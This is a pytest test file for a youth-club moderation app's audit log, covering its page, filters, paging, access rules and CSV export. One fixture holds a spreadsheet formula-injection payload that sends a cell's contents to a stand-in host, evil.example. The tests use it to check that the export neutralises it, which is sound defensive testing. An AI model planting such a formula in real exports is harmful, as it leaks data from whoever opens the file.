"""The organisation's audit log: what youth workers and admins read on the page and in the
CSV file, how the filters narrow it, and that it never shows another organisation's entries."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from bs4 import Tag
from sqlmodel import select

from server import audit, clock
from server.accounts import people
from server.accounts.models import User
from server.audit import AuditEntry
from server.campaigns.models import ENDED, CampaignRole
from server.db import Database
from server.errors import InvalidInput, NotAllowed, NotFound
from server.moderation import audit_log
from server.moderation.audit_log import (
    ACTION_LABELS,
    AUTOMATIC,
    CSV_COLUMNS,
    OPERATOR,
    PAGE_SIZE,
    AuditFilters,
)
from tests.accounts.helpers import heading, location, text, viewer_of
from tests.campaigns.pages import make_campaign
from tests.conftest import page

ROOT = Path(__file__).resolve().parents[2]
FORBIDDEN = "This page is for youth workers and organisation admins."
MISSING = "We could not find that campaign."
JUNE = {"from": "2024-06-01", "to": "2024-06-30"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HIDDEN_REASON = "Unkind words about someone's family"


def at(day: int, hour: int = 12, minute: int = 0, second: int = 0) -> datetime:
    return datetime(2024, 6, day, hour, minute, second, tzinfo=UTC)


def record(db: Database, org, actor: User | None, action: str, when: datetime, *,
           person: User | None = None, campaign=None, comment_id: int | None = None,
           reason: str = "") -> int:
    with db.write() as session:
        entry = audit.record(session, org_id=org.id, actor_id=actor.id if actor else None,
                             action=action, target_user_id=person.id if person else None,
                             campaign_id=campaign.id if campaign else None,
                             comment_id=comment_id, reason=reason)
        entry.at = when
        session.flush()
        assert entry.id is not None
        return entry.id


@pytest.fixture
def hillside_campaign(db, riverside):
    return make_campaign(db, riverside["outsider"], title="Hillside skate park")


@pytest.fixture
def log(db, riverside, sam, campaign, hillside_campaign) -> dict[str, int]:
    """A week in June 2024 in Riverside (and one entry in Hillside), by letter."""
    r = riverside
    org = r["org"]
    return {
        "A": record(db, org, r["worker"], "comment.hidden", at(1, 10), person=r["young"],
                    campaign=campaign, comment_id=7, reason=HIDDEN_REASON),
        "B": record(db, org, r["young"], "comment.held", at(2, 0, 0, 0), person=sam,
                    campaign=campaign, comment_id=8),
        "C": record(db, org, sam, "comment.reported", at(2, 23, 59, 59), person=r["young"],
                    campaign=campaign, comment_id=7, reason="Unkind"),
        "D": record(db, org, r["worker"], "concern.closed", at(3, 0, 0, 0),
                    reason="Talked to them and their carer"),
        "E": record(db, org, r["admin"], "user.suspended", at(4), person=sam,
                    reason=HYPERLINK),
        "F": record(db, org, None, "user.password_set", at(5), person=r["young"]),
        "G": record(db, org, r["young"], "poll.opened", at(6), campaign=campaign),
        "H": record(db, org, r["worker"], "mystery.thing", at(7)),
        "hillside": record(db, r["other_org"], r["other_worker"], "comment.hidden", at(3),
                           person=r["outsider"], campaign=hillside_campaign,
                           reason="Hillside only"),
    }


def ids(rows) -> list[int]:
    return [row.id for row in rows]


def letters(log: dict[str, int], rows) -> str:
    by_id = {v: k for k, v in log.items()}
    return "".join(by_id.get(row.id, "?") for row in rows)


def june(db, user, **filters: str):
    query = {**JUNE, **filters}
    found = AuditFilters.from_query(query)
    with db.read() as session:
        return audit_log.entries(session, actor=viewer_of(db, user), filters=found)


def org_entry_ids(db, org) -> set[int]:
    with db.read() as session:
        return set(session.exec(select(AuditEntry.id).where(AuditEntry.org_id == org.id)))


# ---------------------------------------------------------------- the query layer


def test_entries_are_newest_first_and_say_who_what_whom_where_and_why(db, riverside, campaign,
                                                                      log):
    found = june(db, riverside["worker"])

    assert letters(log, found.rows) == "HGFEDCBA"
    hidden = found.rows[-1]
    assert (hidden.at, hidden.actor_name, hidden.actor_username, hidden.actor_role) == (
        at(1, 10), "Worker", "worker", "Youth worker")
    assert (hidden.action, hidden.action_label) == ("comment.hidden", "Hid a comment")
    assert (hidden.person_name, hidden.person_username) == ("Jade", "jade")
    assert (hidden.campaign_id, hidden.campaign_title) == (campaign.id, "Safe way to college")
    assert (hidden.comment_id, hidden.reason) == (7, HIDDEN_REASON)
    assert found.total == 8 and found.pages == 1


def test_who_did_it_for_people_roles_the_operator_and_the_app(db, riverside, campaign, log):
    record(db, riverside["org"], None, "comment.held", at(8), campaign=campaign,
           reason="Held on its own: reported by 3 different members")
    found = june(db, riverside["admin"]).rows
    rows = {row.action: row for row in found[1:]}

    assert (found[0].action, found[0].actor_name, found[0].actor_role) == (
        "comment.held", AUTOMATIC, "")
    assert (rows["user.password_set"].actor_name, rows["user.password_set"].actor_username,
            rows["user.password_set"].actor_role) == (OPERATOR, "", "")
    assert rows["comment.reported"].actor_role == "Young person"
    assert rows["poll.opened"].actor_role == "Young person"
    assert rows["user.suspended"].actor_role == "Organisation admin"
    young_hold = next(r for r in june(db, riverside["admin"], person="sam").rows
                      if r.action == "comment.held")
    assert (young_hold.actor_name, young_hold.actor_role) == ("Jade", "Peer moderator")


def test_an_action_without_words_shows_its_code(db, riverside, log):
    row = june(db, riverside["worker"]).rows[0]

    assert (row.action, row.action_label) == ("mystery.thing", "mystery.thing")


def test_only_the_viewers_own_organisation_ever(db, riverside, log):
    mine = org_entry_ids(db, riverside["org"])
    with db.read() as session:
        everything = audit_log.all_entries(session, actor=viewer_of(db, riverside["worker"]),
                                           filters=AuditFilters())
        theirs = audit_log.all_entries(session, actor=viewer_of(db, riverside["other_worker"]),
                                       filters=AuditFilters())

    assert set(ids(everything)) == mine
    assert log["hillside"] in ids(theirs)
    assert not set(ids(theirs)) & mine
    assert letters(log, june(db, riverside["worker"], what="comment.hidden").rows) == "A"


@pytest.mark.parametrize("who", ["young", "child"])
def test_young_people_cannot_read_the_log(db, riverside, log, who):
    actor = viewer_of(db, riverside[who])
    with db.read() as session, pytest.raises(NotAllowed):
        audit_log.entries(session, actor=actor, filters=AuditFilters())
    with db.read() as session, pytest.raises(NotAllowed):
        audit_log.all_entries(session, actor=actor, filters=AuditFilters())
    with db.read() as session, pytest.raises(NotAllowed):
        audit_log.campaign_choices(session, actor=actor)


@pytest.mark.parametrize(("filters", "expected"), [
    ({}, "HGFEDCBA"),
    ({"what": "moderation"}, "ECBA"),
    ({"what": "safeguarding"}, "D"),
    ({"what": "campaigns"}, "G"),
    ({"what": "accounts"}, "F"),
    ({"what": "comment.hidden"}, "A"),
    ({"what": "user.suspended"}, "E"),
    ({"person": "sam"}, "ECB"),
    ({"person": "@JADE"}, "GFCBA"),
    ({"from": "2024-06-02", "to": "2024-06-02"}, "CB"),
    ({"from": "2024-06-03", "to": "2024-06-03"}, "D"),
    ({"from": "2024-06-05"}, "HGF"),
    ({"what": "moderation", "person": "sam"}, "ECB"),
])
def test_each_filter_narrows_the_entries(db, riverside, log, filters, expected):
    query = {"to": "2024-06-30", **filters} if "from" in filters else {**JUNE, **filters}
    with db.read() as session:
        found = audit_log.entries(session, actor=viewer_of(db, riverside["worker"]),
                                  filters=AuditFilters.from_query(query))

    assert letters(log, found.rows) == expected


def test_the_campaign_filter(db, riverside, campaign, log):
    assert letters(log, june(db, riverside["worker"], campaign=str(campaign.id)).rows) == "GCBA"
    with db.read() as session:
        choices = audit_log.campaign_choices(session, actor=viewer_of(db, riverside["worker"]))
    assert choices == [(campaign.id, "Safe way to college")]


@pytest.mark.parametrize("which", ["hillside", "missing"])
def test_a_campaign_from_another_organisation_is_not_found(db, riverside, log,
                                                           hillside_campaign, which):
    campaign_id = hillside_campaign.id if which == "hillside" else 99999
    for query in (audit_log.entries, audit_log.all_entries):
        with db.read() as session, pytest.raises(NotFound) as raised:
            query(session, actor=viewer_of(db, riverside["worker"]),
                  filters=AuditFilters(campaign=str(campaign_id)))
        assert raised.value.message == MISSING


@pytest.mark.parametrize(("filters", "errors"), [
    ({"from": "2024-06-10", "to": "2024-06-09"}, {"to"}),
    ({"from": "10/06/2024"}, {"from"}),
    ({"to": "2024-02-30"}, {"to"}),
    ({"what": "nonsense"}, {"what"}),
    ({"person": "nobody"}, {"person"}),
    ({"person": "olu"}, {"person"}),  # in another organisation
    ({"campaign": "first"}, {"campaign"}),
    ({"campaign": "\u00b2"}, {"campaign"}),
    ({"campaign": "9" * 30}, {"campaign"}),
    ({"from": "yesterday", "person": "nobody", "what": "x"}, {"from", "person", "what"}),
])
def test_filters_that_need_fixing_say_which(db, riverside, log, filters, errors):
    with db.read() as session, pytest.raises(InvalidInput) as raised:
        audit_log.all_entries(session, actor=viewer_of(db, riverside["worker"]),
                              filters=AuditFilters.from_query(filters))

    assert set(raised.value.errors) == errors


def test_the_end_date_is_after_the_start_date(db, riverside, log):
    with db.read() as session, pytest.raises(InvalidInput) as raised:
        audit_log.entries(session, actor=viewer_of(db, riverside["worker"]),
                          filters=AuditFilters(date_from="2024-06-10", date_to="2024-06-09"))

    assert raised.value.errors == {
        "to": "The end date is before the start date. Choose one on or after it."}


def test_fifty_a_page(db, riverside):
    org = riverside["org"]
    made = [record(db, org, riverside["worker"], "room.locked", at(1) + timedelta(minutes=n))
            for n in range(PAGE_SIZE * 2 + 7)]
    newest_first = list(reversed(made))
    actor = viewer_of(db, riverside["worker"])

    def on(number: int):
        with db.read() as session:
            return audit_log.entries(session, actor=actor, filters=AuditFilters(what="room.locked"),
                                     page=number)

    first, second, last = on(1), on(2), on(3)
    assert ids(first.rows) == newest_first[:PAGE_SIZE]
    assert ids(second.rows) == newest_first[PAGE_SIZE:PAGE_SIZE * 2]
    assert ids(last.rows) == newest_first[PAGE_SIZE * 2:]
    assert (first.has_newer, first.has_older, last.has_newer, last.has_older) == (
        False, True, True, False)
    assert ids(on(40).rows) == ids(last.rows)


def test_a_real_suspension_is_in_the_log_in_words(db, riverside, sam):
    assert sam.id is not None
    with db.write() as session:
        people.suspend(session, actor=viewer_of(db, riverside["worker"]), user_id=sam.id,
                       reason="Shared a private photo")
    with db.read() as session:
        rows = audit_log.all_entries(session, actor=viewer_of(db, riverside["admin"]),
                                     filters=AuditFilters(what="moderation"))

    assert [(r.actor_name, r.action_label, r.person_username, r.reason) for r in rows] == [
        ("Worker", "Suspended an account", "sam", "Shared a private photo")]


def _recorded_actions() -> set[str]:
    """Every action code the server's code writes into the log."""
    found: set[str] = set()
    for path in (ROOT / "server").rglob("*.py"):
        if path.name == "audit_log.py":
            continue
        for line in path.read_text().splitlines():
            if "action=" in line or "_audit(" in line or "_record(" in line:
                found.update(re.findall(r'"([a-z_]+\.[a-z_]+)"', line))
    # The codes built from a value.
    found.update(f"campaign.{status}" for status in ENDED)
    found.update(f"campaign.{role}_added" for role in CampaignRole)
    return found


def test_every_action_the_server_records_has_words():
    recorded = _recorded_actions()

    assert {"user.suspended", "campaign.member_removed", "comment.edited",
            "poll.opened"} <= recorded
    assert sorted(recorded - set(ACTION_LABELS)) == []


@pytest.mark.parametrize(("group", "actions"), [
    ("moderation", ["comment.reported", "comment.held", "comment.hidden", "comment.restored",
                    "comment.removed", "report.dismissed", "member.muted", "member.unmuted",
                    "room.premoderation_on", "room.premoderation_off", "room.slow_mode_on",
                    "room.slow_mode_off", "room.locked", "room.unlocked", "poll.paused",
                    "poll.resumed", "peer_moderator.added", "peer_moderator.removed",
                    "word_filter.words_added", "word_filter.word_removed",
                    "moderation.settings_changed", "campaign.member_removed",
                    "user.suspended", "user.unsuspended"]),
    ("safeguarding", ["concern.raised", "concern.seen", "concern.closed",
                      "member.consent_recorded", "user.reset_code_issued"]),
    ("campaigns", ["campaign.created", "campaign.lead_added", "poll.opened", "poll.closed",
                   "comment.edited", "comment.deleted"]),
    ("accounts", ["user.created", "user.joined", "staff.added", "invite.created",
                  "organisation.created", "user.password_changed"]),
])
def test_each_action_is_in_its_group(group, actions):
    for action in actions:
        assert action in ACTION_LABELS
        found = audit_log.group_of(action)
        assert found is not None and found.key == group, action


def test_every_labelled_action_can_be_chosen_in_the_what_filter():
    choices = {code for group in audit_log.GROUPS for code, _ in audit_log.actions_in(group)}

    assert choices == set(ACTION_LABELS)


def test_the_csv_file_holds_the_rows_in_order_and_runs_nothing(db, riverside, log):
    with db.read() as session:
        rows = audit_log.all_entries(session, actor=viewer_of(db, riverside["worker"]),
                                     filters=AuditFilters.from_query(JUNE))
    table = list(csv.reader(io.StringIO(audit_log.csv_file(rows).removeprefix("\ufeff"),
                                        newline="")))

    assert table[0] == [name for name, _ in CSV_COLUMNS]
    assert [line[4] for line in table[1:]] == [r.action for r in rows]
    suspended = next(line for line in table if line[4] == "user.suspended")
    assert suspended == ["2024-06-04T12:00:00Z", "admin", "Admin", "Organisation admin",
                         "user.suspended", "Suspended an account", "sam", "Sam", "", "",
                         "'" + HYPERLINK]


# ---------------------------------------------------------------- the pages


PAGE = "/moderation/audit"
CSV = "/moderation/audit.csv"


def shown(response) -> list[dict[str, str]]:
    """The table's rows as a person reads them, column by column."""
    soup = page(response)
    table = soup.select_one("table.audit")
    if table is None:
        return []
    names = [th.get_text(" ", strip=True) for th in table.select("thead th")]
    return [dict(zip(names, [td.get_text(" ", strip=True) for td in tr.select("td")],
                     strict=True)) for tr in table.select("tbody tr")]


def what_column(response) -> list[str]:
    return [row["What"] for row in shown(response)]


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def link(response, words: str) -> str:
    found = page(response).find("a", string=re.compile(words))
    assert isinstance(found, Tag), f"no link saying {words!r}"
    return str(found["href"])


@pytest.mark.parametrize("who", ["worker", "admin"])
def test_staff_read_the_log(as_user, riverside, campaign, log, who):
    response = as_user(who).get(PAGE, params=JUNE)

    assert response.status_code == 200
    assert heading(response) == "Audit log"
    soup = page(response)
    assert text(soup, "table.audit caption") == "Audit log, newest first"
    assert what_column(response) == [
        "mystery.thing", "Opened a poll", "Set a password", "Suspended an account",
        "Closed a worry", "Reported a comment", "Held a comment", "Hid a comment"]
    hidden = shown(response)[-1]
    assert hidden == {"When": "1 Jun 2024, 10:00 UTC", "Who did it": "Worker @worker Youth worker",
                      "What": "Hid a comment", "About whom": "Jade @jade",
                      "Campaign": "Safe way to college", "Comment": "7", "Why": HIDDEN_REASON}
    assert shown(response)[2]["Who did it"] == OPERATOR
    assert shown(response)[6]["Who did it"] == "Jade @jade Peer moderator"
    row = soup.select_one(f"#entry-{log['A']}")
    assert row is not None
    assert [a["href"] for a in row.select("a")] == [
        f"/people/{riverside['worker'].id}", f"/people/{riverside['young'].id}",
        f"/campaigns/{campaign.id}"]
    time_ = row.select_one("time")
    assert time_ is not None and time_["datetime"] == "2024-06-01T10:00:00Z"


def test_the_table_scrolls_inside_its_own_box_on_a_phone(as_user, log):
    soup = page(as_user("worker").get(PAGE, params=JUNE))
    box = soup.select_one("div.table-wrap")

    assert box is not None and box.select_one("table.audit") is not None
    # A box that scrolls must be reachable and named for keyboard and screen reader users.
    assert box["tabindex"] == "0" and box["role"] == "region"
    assert box["aria-labelledby"] == "audit-caption"


@pytest.mark.parametrize("path", [PAGE, CSV])
def test_logged_out_people_are_sent_to_log_in(client, path):
    response = client.get(path)

    assert response.status_code == 303
    assert location(response) == f"/login?next={path}"


@pytest.mark.parametrize("path", [PAGE, CSV])
@pytest.mark.parametrize("who", ["jade", "milo"])
def test_young_people_are_turned_away(as_user, log, path, who):
    response = as_user(who).get(path)

    assert response.status_code == 403
    assert text(page(response), "main p") == FORBIDDEN
    assert "text/csv" not in response.headers["content-type"]


def test_another_organisations_entries_never_appear(as_user, log):
    ours = as_user("worker")
    theirs = as_user("hilda")

    assert "Hillside only" not in ours.get(PAGE).text
    assert "Hillside only" not in ours.get(CSV).text
    assert HIDDEN_REASON not in theirs.get(PAGE).text
    assert HIDDEN_REASON not in theirs.get(CSV).text
    assert [r["Why"] for r in shown(theirs.get(PAGE, params=JUNE))] == ["Hillside only"]


@pytest.mark.parametrize("path", [PAGE, CSV])
def test_another_organisations_campaign_in_the_filter_is_not_found(as_user, log,
                                                                   hillside_campaign, path):
    response = as_user("worker").get(path, params={"campaign": str(hillside_campaign.id)})

    assert response.status_code == 404
    assert text(page(response), "main p") == MISSING


def test_the_campaign_select_offers_only_our_campaigns_and_keeps_the_choice(as_user, campaign,
                                                                            log):
    response = as_user("worker").get(PAGE, params={**JUNE, "campaign": str(campaign.id)})
    options = page(response).select("#f-campaign option")

    assert [(o["value"], o.get_text()) for o in options] == [
        ("", "All campaigns"), (str(campaign.id), "Safe way to college")]
    assert [o["value"] for o in options if o.has_attr("selected")] == [str(campaign.id)]
    assert what_column(response) == ["Opened a poll", "Reported a comment", "Held a comment",
                                      "Hid a comment"]


@pytest.mark.parametrize(("filters", "expected"), [
    ({"what": "safeguarding"}, ["Closed a worry"]),
    ({"what": "comment.reported"}, ["Reported a comment"]),
    ({"person": "sam"}, ["Suspended an account", "Reported a comment", "Held a comment"]),
    ({"from": "2024-06-02", "to": "2024-06-02"}, ["Reported a comment", "Held a comment"]),
])
def test_each_filter_narrows_the_page_and_is_kept_in_the_form(as_user, log, filters,
                                                              expected):
    response = as_user("worker").get(PAGE, params={**JUNE, **filters})

    assert response.status_code == 200
    assert what_column(response) == expected
    soup = page(response)
    for name, value in filters.items():
        field = soup.select_one(f"#f-{name}")
        assert field is not None
        kept = (field["value"] if field.name == "input"
                else field.select_one("option[selected]")["value"])  # type: ignore[index]
        assert kept == value


def test_nothing_matching_says_so(as_user, log):
    response = as_user("worker").get(PAGE, params={**JUNE, "what": "poll.paused"})

    assert response.status_code == 200
    assert shown(response) == []
    assert text(page(response), "p.empty").startswith("Nothing in the log matches these filters")


@pytest.mark.parametrize(("filters", "field", "message"), [
    ({"from": "2024-06-10", "to": "2024-06-09"}, "to",
     "The end date is before the start date. Choose one on or after it."),
    ({"from": "June the 1st"}, "from", "Give the start date as year-month-day, like 2026-03-31."),
    ({"person": "nobody_here"}, "person",
     "There is nobody with the username nobody_here in your organisation. Check the spelling."),
    ({"what": "everything!"}, "what", "Choose what to show from the list."),
])
def test_filters_that_need_fixing_are_shown_by_the_field_with_the_words_kept(
        as_user, log, filters, field, message):
    response = as_user("worker").get(PAGE, params=filters)

    assert response.status_code == 422
    soup = page(response)
    assert text(soup, f"#f-{field}-error") == message
    assert text(soup, ".error-summary") == f"Please fix this: {message}"
    assert soup.select_one(f"#f-{field}")["aria-invalid"] == "true"  # type: ignore[index]
    for name, value in filters.items():
        if name != "what":
            assert soup.select_one(f"#f-{name}")["value"] == value  # type: ignore[index]
    assert shown(response) == []


@pytest.mark.parametrize(("filters", "message"), [
    ({"from": "2024-06-10", "to": "2024-06-09"},
     "The end date is before the start date. Choose one on or after it."),
    ({"person": "nobody_here"},
     "There is nobody with the username nobody_here in your organisation. Check the spelling."),
])
def test_a_csv_with_filters_that_need_fixing_is_a_page_saying_why(as_user, log, filters,
                                                                  message):
    response = as_user("worker").get(CSV, params=filters)

    assert response.status_code == 422
    assert response.headers["content-type"].startswith("text/html")
    assert text(page(response), "main p") == message


def test_the_csv_file(as_user, riverside, log):
    response = as_user("admin").get(CSV, params={**JUNE, "what": "moderation"})

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    today = clock.now().date().isoformat()
    assert response.headers["content-disposition"] == (
        f'attachment; filename="audit-riverside-youth-club-{today}.csv"')
    table = read_csv(response)
    assert table[0] == ["when", "actor_username", "actor_name", "actor_role", "action",
                        "action_in_words", "person_username", "person_name", "campaign",
                        "comment_id", "reason"]
    assert [line[:6] for line in table[1:]] == [
        ["2024-06-04T12:00:00Z", "admin", "Admin", "Organisation admin", "user.suspended",
         "Suspended an account"],
        ["2024-06-02T23:59:59Z", "sam", "Sam", "Young person", "comment.reported",
         "Reported a comment"],
        ["2024-06-02T00:00:00Z", "jade", "Jade", "Peer moderator", "comment.held",
         "Held a comment"],
        ["2024-06-01T10:00:00Z", "worker", "Worker", "Youth worker", "comment.hidden",
         "Hid a comment"],
    ]
    assert table[4][6:] == ["jade", "Jade", "Safe way to college", "7", HIDDEN_REASON]
    assert table[1][10] == "'" + HYPERLINK


def test_pages_of_fifty_keep_the_filters_and_the_csv_holds_them_all(db, as_user, riverside):
    for n in range(PAGE_SIZE + 5):
        record(db, riverside["org"], riverside["worker"], "room.slow_mode_on",
               at(1) + timedelta(minutes=n), reason=f"Slow {n}")
    record(db, riverside["org"], riverside["worker"], "room.locked", at(9))
    browser = as_user("worker")
    filters = {**JUNE, "what": "room.slow_mode_on"}

    first = browser.get(PAGE, params=filters)
    assert len(shown(first)) == PAGE_SIZE
    assert shown(first)[0]["Why"] == f"Slow {PAGE_SIZE + 4}"
    assert text(page(first), "table.audit caption") == "Audit log, newest first: page 1 of 2"
    older = link(first, "^Older$")
    assert older == "/moderation/audit?from=2024-06-01&to=2024-06-30&what=room.slow_mode_on&page=2"
    assert page(first).find("a", string="Newer") is None

    second = browser.get(older)
    assert [r["Why"] for r in shown(second)] == [f"Slow {n}" for n in range(4, -1, -1)]
    assert link(second, "^Newer$") == (
        "/moderation/audit?from=2024-06-01&to=2024-06-30&what=room.slow_mode_on")
    assert page(second).find("a", string="Older") is None

    download = link(first, "CSV")
    assert download == "/moderation/audit.csv?from=2024-06-01&to=2024-06-30&what=room.slow_mode_on"
    rows = read_csv(browser.get(download))[1:]
    assert len(rows) == PAGE_SIZE + 5
    assert {line[4] for line in rows} == {"room.slow_mode_on"}


@pytest.mark.parametrize("number", ["0", "-1", "two", "\u00b2", "9" * 40])
def test_a_page_number_that_makes_no_sense_shows_the_first_page(as_user, log, number):
    response = as_user("worker").get(PAGE, params={**JUNE, "page": number})

    assert response.status_code == 200
    assert what_column(response)[0] == "mystery.thing"


def test_the_page_says_what_the_csv_columns_hold(as_user, log):
    soup = page(as_user("worker").get(PAGE))

    assert [dt.get_text(strip=True) for dt in soup.select(".csv-columns dt")] == [
        name for name, _ in CSV_COLUMNS]
